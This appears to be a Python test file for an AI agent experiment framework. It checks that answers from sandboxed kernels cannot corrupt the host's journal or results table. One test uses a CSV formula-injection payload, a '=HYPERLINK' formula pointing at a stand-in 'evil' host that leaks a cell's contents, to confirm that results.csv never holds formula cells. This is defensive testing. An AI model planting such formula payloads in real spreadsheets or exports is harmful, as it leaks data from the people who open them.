"""Attacks from inside an experiment's runs (real sandboxed kernels): kernel-made answers that reach the host's
checker, journal and table."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from kernel_agent import KernelPool, ScriptedModel
from kernel_agent.experiment import Configuration, Experiment, ExperimentResults, Task

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pool() -> AsyncIterator[KernelPool]:
    async with KernelPool(size=1) as started:
        yield started


def echo(answer: Any) -> bool:
    """A checker whose message quotes the answer, as checkers do."""
    raise ValueError(f"wrong: {answer}")


async def test_an_answer_with_lone_surrogates_never_reaches_the_journal(pool: KernelPool, tmp_path: Path) -> None:
    """A lone surrogate in a kernel-made answer would reach the checker's message, and the journal's UTF-8 append
    would raise, stopping the whole experiment: the kernel cannot send one (its final_answer fails in the cell), so
    each run ends without that answer and the experiment goes on (held, not broken)."""
    experiment = Experiment("e", [Task("t", "Answer.", check=echo)],
                            [Configuration("c", lambda task, repeat: ScriptedModel(
                                ["final_answer('\\udc80' + chr(0xd800) + 'x')"]))],
                            repeats=2, directory=tmp_path / "exp", pool=pool, cache=False)
    results = await experiment.run()
    rows = results.table.to_dict("records")
    assert [row["success"] for row in rows] == [False, False]
    assert all(row["checker_error"].startswith("ValueError: wrong: ") for row in rows)
    assert all("x" not in row["answer"] for row in rows)  # the surrogate answer was never taken
    assert ExperimentResults.load(tmp_path / "exp").table.equals(results.table)


async def test_kernel_made_answers_never_reach_results_csv_as_formulas(pool: KernelPool, tmp_path: Path) -> None:
    """The answer column is the kernel's value's repr: a DataFrame's repr begins with its column names, which the
    kernel chooses (and a checker's message quotes the answer): no cell of results.csv may start a formula."""
    import csv

    code = ("import pandas as pd\n"
            "final_answer(pd.DataFrame({\"=HYPERLINK(\\\"http://evil/\\\"&A1)\": [1]}).rename(index={0: '@x'}))")
    experiment = Experiment("e", [Task("t", "Answer.", check=lambda answer: (_ for _ in ()).throw(
        ValueError(str(answer.columns[0]))))],
                            [Configuration("c", lambda task, repeat: ScriptedModel([code]))],
                            repeats=1, directory=tmp_path / "exp", pool=pool, cache=False)
    results = await experiment.run()
    row = results.table.to_dict("records")[0]
    assert row["answer"].lstrip(" ").startswith("=HYPERLINK")
    assert row["checker_error"].startswith("ValueError: =HYPERLINK")
    with (tmp_path / "exp" / "results.csv").open(newline="") as stream:
        cells = [cell for line in csv.reader(stream) for cell in line]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))]
